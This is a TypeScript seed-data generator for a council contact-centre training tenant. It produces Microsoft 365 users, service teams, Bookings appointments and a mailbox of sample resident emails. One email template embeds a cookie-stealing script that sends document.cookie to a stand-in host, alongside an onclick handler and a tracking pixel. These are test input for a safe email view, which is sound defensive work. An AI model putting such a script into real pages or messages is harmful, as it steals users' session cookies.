import type { StaffUser } from '../../../../shared/domain/staff';
import { DEFAULT_CASE_SUMMARY_PARTS } from '../../config/deployment-config';
import type { GraphBookingAppointment } from '../../graph/bookings';
import type { Microsoft365Settings } from '../../graph/service-context';
import { londonWallTime } from '../../../../shared/london-time';
import { familySurname, givenName, mailboxPart, surnameFor } from '../names';
import { createRandom, deriveSeed, pickWeighted, type Random } from '../random';
import { ENGLISH_SPEAKER_ORIGINS } from '../word-lists';

/** The training tenant: a fixed id so every run and every stand-in agree. */
export const TRAINING_TENANT_ID = '5f1c7e0a-7b1d-4c55-9a51-0c1d1c0de5a1';

export interface SeedUser {
  /** A deterministic GUID: the `oid` the identity stand-in puts in the officer's token. */
  id: string;
  displayName: string;
  mail: string;
  userPrincipalName: string;
  jobTitle: string;
  department: string;
  /** The training staff member this account belongs to, when it is one. */
  staffId?: string;
}

export interface SeedTeam {
  id: string;
  displayName: string;
  service: string;
  /** The escalation channel, or null where a service has experts but no escalation channel. */
  channelId: string | null;
  /** Who is in the team: only they may read or post in its channel, as in Teams. */
  memberIds: string[];
}

export interface SeedStaffMember {
  id: string;
  displayName: string;
  emailAddress: string;
  role: 'staffMember';
  /** Which service point the officer works at. */
  servicePoint: string;
}

export interface GraphSeed {
  tenantId: string;
  today: string;
  users: SeedUser[];
  teams: SeedTeam[];
  bookingsBusinessId: string;
  residentQuestionId: string;
  staffMembers: SeedStaffMember[];
  /** The appointments on `today`; another day's come from `appointmentBook` when it is asked for. */
  appointments: GraphBookingAppointment[];
  appointmentBook: AppointmentBook;
  /** What the training deployment's settings say, derived from the teams above. */
  settings: Microsoft365Settings;
  /** The council's shared contact mailbox, with the residents' emails waiting in its Inbox. */
  mailbox: SeedMailbox;
}

/** A file on a seeded email: bytes as Graph carries them (base64), so the seed stays plain JSON. */
export interface SeedMailAttachment {
  name: string;
  contentType: string;
  contentBytes: string;
  /** A picture shown in the body (`<img src="cid:…">`) rather than listed as a file. */
  isInline: boolean;
  contentId: string | null;
}

/** An email a resident (or a stranger) sent to the contact mailbox before the training day. */
export interface SeedMail {
  id: string;
  receivedDateTime: string;
  from: { name: string; address: string };
  subject: string;
  /** Plain HTML as a resident's mail program sends it: remote images, links, even script. */
  html: string;
  /** The council service the email is about, keyed as cases name it. */
  service: string;
  isRead: boolean;
  attachments: SeedMailAttachment[];
}

export interface SeedMailbox {
  id: string;
  address: string;
  displayName: string;
  /** The seed users with a staffId: only they have Full Access to the mailbox, as Exchange grants it. */
  memberIds: string[];
  messages: SeedMail[];
}

export interface GraphSeedInput {
  staff: readonly StaffUser[];
  residents: readonly { id: string; name: string; phone: string | null; email?: string | null }[];
  /** The London date the appointments are for. */
  today: string;
  seed?: number;
}

/**
 * The council services with a Teams team of experts, keyed as cases name their service
 * (shared/domain/case.ts) so a case finds its team; two are services with no cases here. Parking has no escalation channel, so training shows that case too. */
const SERVICES: readonly { service: string; team: string; expertTitle: string; escalates: boolean }[] = [
  { service: 'waste', team: 'Waste and Recycling', expertTitle: 'Waste services officer', escalates: true },
  { service: 'housing-repairs', team: 'Housing Repairs', expertTitle: 'Repairs surveyor', escalates: true },
  { service: 'council-tax', team: 'Council Tax', expertTitle: 'Council tax officer', escalates: true },
  { service: 'housing-solutions', team: 'Housing Solutions', expertTitle: 'Housing options officer', escalates: true },
  { service: 'adult-social-care', team: 'Adult Social Care', expertTitle: 'Social worker', escalates: true },
  { service: 'parking', team: 'Parking Services', expertTitle: 'Parking officer', escalates: false },
];
const EXPERTS_PER_TEAM = 4;

const SERVICE_POINTS = [
  { team: 'Service Point – Walworth', location: 'Walworth service point, 151 Walworth Road' },
  { team: 'Service Point – Peckham', location: 'Peckham service point, 122 Peckham Hill Street' },
];
const APPOINTMENTS_PER_POINT = 12;
const BOOKING_SERVICES = ['Housing advice', 'Council tax', 'Blue Badge', 'Housing benefit', 'Homelessness prevention', 'Parking permits'];

const JOB_TITLES: Record<StaffUser['role'], string> = {
  agent: 'Customer service adviser',
  'team-leader': 'Contact centre team leader',
  'service-point-officer': 'Service point officer',
};

/** A GUID made from the seed and a name, so the same person has the same id on every run. */
export function seededGuid(seed: number, ...parts: (string | number)[]): string {
  const random = createRandom(deriveSeed(seed, 'graph-guid', ...parts));
  const hex = Array.from({ length: 32 }, () => random.int(0, 15).toString(16)).join('');
  // Version 4 and RFC 4122 variant bits, so it passes as a GUID anywhere one is checked.
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-${'89ab'[random.int(0, 3)] ?? '8'}${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

function syntheticName(random: Random): { displayName: string; local: string } {
  const origin = pickWeighted(random, ENGLISH_SPEAKER_ORIGINS);
  const form = random.chance(0.5) ? 'female' : 'male';
  const given = givenName(random, origin, form);
  const family = surnameFor(familySurname(random, origin), origin, form);
  return { displayName: `${given} ${family}`, local: `${mailboxPart(given)}.${mailboxPart(family)}` };
}

/** What a service point's day of appointments is made from: the same people every day. */
export interface AppointmentBook {
  seed: number;
  residentQuestionId: string;
  staffMembers: SeedStaffMember[];
  residents: GraphSeedInput['residents'];
}

/**
 * A London day of Bookings appointments at the two service points: twelve of fifteen half-hour
 * slots from 9:00 booked at each, with the training residents in turn.
 */
export function appointmentsOn(book: AppointmentBook, day: string): GraphBookingAppointment[] {
  const { seed, residentQuestionId, staffMembers, residents } = book;
  // Each day's own stream, so a day booked later is the same whenever it is asked for.
  const random = createRandom(deriveSeed(seed, 'appointments', day));
  const appointments: GraphBookingAppointment[] = [];
  let residentIndex = 0;
  for (const point of SERVICE_POINTS) {
    const here = staffMembers.filter((member) => member.servicePoint === point.team);
    // Half-hour slots from 9:00 to 16:00 (the last ends at 16:30); twelve of the fifteen are booked.
    const slots = Array.from({ length: 15 }, (_, i) => i);
    while (slots.length > APPOINTMENTS_PER_POINT) slots.splice(random.int(0, slots.length - 1), 1);
    for (const slot of slots) {
      const resident = residents.length > 0 ? residents[residentIndex % residents.length] : undefined;
      residentIndex += 1;
      const start = londonWallTime(day, 9 + Math.floor(slot / 2), (slot % 2) * 30);
      const end = new Date(start.getTime() + 30 * 60_000);
      const serviceName = random.pick(BOOKING_SERVICES);
      const id = seededGuid(seed, 'appointment', day, point.team, slot);
      const video = random.chance(0.2);
      const staffMember = here.length > 0 ? random.pick(here) : undefined;
      appointments.push({
        id,
        serviceId: seededGuid(seed, 'bookings-service', serviceName),
        serviceName,
        serviceNotes: '',
        startDateTime: { dateTime: start.toISOString().replace('Z', '0000+00:00'), timeZone: 'UTC' },
        endDateTime: { dateTime: end.toISOString().replace('Z', '0000+00:00'), timeZone: 'UTC' },
        customerTimeZone: 'Europe/London',
        isLocationOnline: video,
        joinWebUrl: video ? `https://teams.microsoft.com/l/meetup-join/19%3ameeting_${id.replace(/-/g, '')}%40thread.v2/0` : null,
        staffMemberIds: staffMember ? [staffMember.id] : [],
        customers: [
          {
            '@odata.type': '#microsoft.graph.bookingCustomerInformation',
            customerId: resident ? seededGuid(seed, 'bookings-customer', resident.id) : null,
            name: resident?.name ?? 'Walk-in resident',
            emailAddress: null,
            phone: resident?.phone ?? null,
            timeZone: 'Europe/London',
            customQuestionAnswers: resident
              ? [{ questionId: residentQuestionId, question: 'CivicDesk resident reference', answerInputType: 'text', answer: resident.id }]
              : [],
          },
        ],
      });
    }
  }
  return appointments;
}

/**
 * The training council's Microsoft 365: an account for every training staff member, a few
 * experts per service team, the service teams with their escalation channels, and today's
 * Bookings appointments at the two service points. Only example.org addresses; same seed,
 * same tenant.
 */
export function buildGraphSeed(input: GraphSeedInput): GraphSeed {
  const seed = input.seed ?? 1;
  const random = createRandom(deriveSeed(seed, 'graph-seed'));
  const usedMail = new Set(input.staff.map((member) => member.email.toLowerCase()));

  const users: SeedUser[] = input.staff.map((member) => ({
    id: seededGuid(seed, 'staff', member.id),
    displayName: member.displayName,
    mail: member.email,
    userPrincipalName: member.email,
    jobTitle: JOB_TITLES[member.role],
    department: member.team,
    staffId: member.id,
  }));
  const staffUser = (member: StaffUser) => users.find((user) => user.staffId === member.id);
  // Every training officer sits in every service team: Teams lets only a team's members post in
  // its channels, and agents escalate as much as team leaders do. A council adds its contact
  // centre to these teams the same way (docs/microsoft-365.md); a test takes someone out to see the refusal.
  const followers = input.staff.map((member) => staffUser(member)?.id).filter((id): id is string => id !== undefined);

  const teams: SeedTeam[] = SERVICES.map((service) => {
    const experts: string[] = [];
    for (let i = 0; i < EXPERTS_PER_TEAM; i += 1) {
      const name = syntheticName(random);
      let mail = `${name.local}@example.org`;
      for (let n = 2; usedMail.has(mail); n += 1) mail = `${name.local}${String(n)}@example.org`;
      usedMail.add(mail);
      const id = seededGuid(seed, 'expert', service.service, i);
      users.push({ id, displayName: name.displayName, mail, userPrincipalName: mail, jobTitle: service.expertTitle, department: service.team });
      experts.push(id);
    }
    const threadPart = seededGuid(seed, 'channel', service.service).replace(/-/g, '');
    return {
      id: seededGuid(seed, 'team', service.service),
      displayName: service.team,
      service: service.service,
      channelId: service.escalates ? `19:${threadPart}@thread.tacv2` : null,
      memberIds: [...experts, ...followers],
    };
  });

  const officers = input.staff.filter((member) => member.role === 'service-point-officer');
  const staffMembers: SeedStaffMember[] = officers.map((member) => ({
    id: seededGuid(seed, 'bookings-staff', member.id),
    displayName: member.displayName,
    emailAddress: member.email,
    role: 'staffMember',
    servicePoint: member.team,
  }));

  const bookingsBusinessId = 'CivicDeskServicePoints@example.org';
  const residentQuestionId = seededGuid(seed, 'resident-question');
  const appointmentBook: AppointmentBook = { seed, residentQuestionId, staffMembers, residents: input.residents };
  const appointments = appointmentsOn(appointmentBook, input.today);

  const settings: Microsoft365Settings = {
    expertTeams: Object.fromEntries(teams.map((team) => [team.service, team.id])),
    escalationChannels: Object.fromEntries(
      teams.filter((team) => team.channelId !== null).map((team) => [team.service, { teamId: team.id, channelId: team.channelId ?? '' }]),
    ),
    summaryIncludes: [...DEFAULT_CASE_SUMMARY_PARTS],
    bookingsBusinessId,
    bookingsResidentQuestionId: residentQuestionId,
  };

  const mailbox: SeedMailbox = {
    id: seededGuid(seed, 'contact-mailbox'),
    address: CONTACT_MAILBOX,
    displayName: 'Council contact centre',
    memberIds: users.filter((user) => user.staffId !== undefined).map((user) => user.id),
    messages: seedMail(seed, input),
  };

  return { tenantId: TRAINING_TENANT_ID, today: input.today, users, teams, bookingsBusinessId, residentQuestionId, staffMembers, appointments, appointmentBook, settings, mailbox };
}

export const CONTACT_MAILBOX = 'contact@example.org';

/** A 1×1 PNG and a one-line PDF: real file formats, no real content. */
const TINY_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const TINY_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
).toString('base64');

const file = (name: string, contentType: string, contentBytes: string): SeedMailAttachment => ({ name, contentType, contentBytes, isInline: false, contentId: null });

/**
 * What residents write to the contact mailbox about the council's common services. Each is
 * plain HTML as mail programs send it, and some carry what a safe email view must defuse: a
 * tracking pixel, a script and an onclick, a link, files and an inline picture.
 */
const MAIL_TEMPLATES: readonly { service: string; subject: string; html: (name: string, key: string) => string; attachments?: SeedMailAttachment[]; stranger?: boolean }[] = [
  {
    service: 'waste',
    subject: 'Bin not collected on Tuesday',
    html: (name) => `<p>Hello,</p><p>Our black bin was out by 7am on Tuesday but it was not emptied. The rest of the street was done. A photo is attached.</p><p>Thanks,<br>${name}</p>`,
    attachments: [file('bin-photo.png', 'image/png', TINY_PNG)],
  },
  {
    service: 'council-tax',
    subject: 'Paying council tax in 12 instalments',
    html: (name) => `<p>Dear Sir or Madam,</p><p>Can I spread this year's council tax over 12 monthly instalments instead of 10? I read about it on <a href="https://www.example.org/council-tax/instalments">your instalments page</a> but could not find the form.</p><p>Kind regards,<br>${name}</p>`,
  },
  {
    service: 'parking',
    subject: 'Renewing my residents parking permit',
    html: (name, key) => `<p>Hi,</p><p>My residents parking permit runs out at the end of the month. Do I need to send proof of address again?</p><p>${name}</p><img src="https://tracker.example.net/pixel.gif?id=${key}" width="1" height="1" alt="">`,
  },
  {
    service: 'housing-repairs',
    subject: 'Water coming through the kitchen ceiling',
    html: (name) => `<p>Hello,</p><p>Water is dripping through the kitchen ceiling from the flat above, see below.</p><p><img src="cid:ceiling-photo" alt="Kitchen ceiling"></p><p>Please can someone come out.<br>${name}</p>`,
    attachments: [{ name: 'ceiling.png', contentType: 'image/png', contentBytes: TINY_PNG, isInline: true, contentId: 'ceiling-photo' }],
  },
  {
    service: 'noise-nuisance',
    subject: 'Loud music every night from the flat above',
    html: (name) => `<p>To the council,</p><p>For three weeks there has been loud music after midnight from the flat above.</p><script>document.location='https://tracker.example.net/steal?c='+document.cookie</script><p><a href="#" onclick="alert('noise diary')">My noise diary</a></p><p>${name}</p>`,
  },
  {
    service: 'waste',
    subject: 'Recycling missed again',
    html: () => '<p>The recycling on our road has been missed two weeks running. Nobody has replied to my last email.</p>',
    stranger: true,
  },
  {
    service: 'council-tax',
    subject: 'Council tax bill – wrong band?',
    html: (name) => `<p>Hello,</p><p>I think my flat is in the wrong band. My bill is attached.</p><p>Regards,<br>${name}</p>`,
    attachments: [file('council-tax-bill.pdf', 'application/pdf', TINY_PDF)],
  },
  {
    service: 'housing-repairs',
    subject: 'Boiler not working – no hot water',
    html: (name) => `<p>Hi,</p><p>Our boiler stopped working yesterday evening and we have no heating or hot water. We have a baby at home.</p><p>${name}</p>`,
  },
  {
    service: 'parking',
    subject: 'Visitor parking permits',
    html: (name) => `<p>Good morning,</p><p>How many visitor permits can I buy each year, and can I buy them online?</p><p>Thank you,<br>${name}</p>`,
  },
  {
    service: 'noise-nuisance',
    subject: 'Dog barking next door all day',
    html: (name) => `<p>Dear council,</p><p>The dog next door barks from 8am to 6pm while the owners are out. I have spoken to them twice.</p><p>${name}</p>`,
  },
  {
    service: 'council-tax',
    subject: 'Moving out – final council tax bill',
    html: (name) => `<p>Hello,</p><p>I am moving out on the 30th. Please send my final bill to my new address.</p><p>Many thanks,<br>${name}</p>`,
  },
  {
    service: 'waste',
    subject: 'Request for a new garden waste bin',
    html: (name) => `<p>Hi,</p><p>Our garden waste bin was cracked by the lorry. Can we have a new one?</p><p>${name}</p>`,
  },
];

/** Someone who is no resident the council knows: an address only. */
const STRANGER = { name: 'someone.unknown@example.net', address: 'someone.unknown@example.net' };

/**
 * About twelve emails received between an hour and nine days before 09:00 London on the
 * training day, from residents with an email address. Drawn from a stream of their own, so
 * the rest of the seed is what it was before the mailbox existed.
 */
function seedMail(seed: number, input: GraphSeedInput): SeedMail[] {
  const random = createRandom(deriveSeed(seed, 'graph-mailbox'));
  const writers = input.residents.filter((resident) => typeof resident.email === 'string' && resident.email.includes('@'));
  const nine = londonWallTime(input.today, 9).getTime();
  const messages = MAIL_TEMPLATES.map((template, index): SeedMail => {
    const resident = writers.length > 0 && !template.stranger ? random.pick(writers) : undefined;
    const from = resident ? { name: resident.name, address: resident.email ?? '' } : template.stranger ? STRANGER : { name: `Resident ${String(index + 1)}`, address: `resident.${String(index + 1)}@example.net` };
    const minutesBefore = random.int(60, 9 * 24 * 60);
    const id = seededGuid(seed, 'mail', index);
    return {
      id,
      receivedDateTime: new Date(nine - minutesBefore * 60_000).toISOString().replace(/\.\d{3}Z$/, 'Z'),
      from,
      subject: template.subject,
      html: `<html><body>${template.html(from.name, id.replace(/-/g, ''))}</body></html>`,
      service: template.service,
      isRead: random.chance(0.25),
      attachments: template.attachments ?? [],
    };
  });
  return messages.sort((a, b) => a.receivedDateTime.localeCompare(b.receivedDateTime));
}
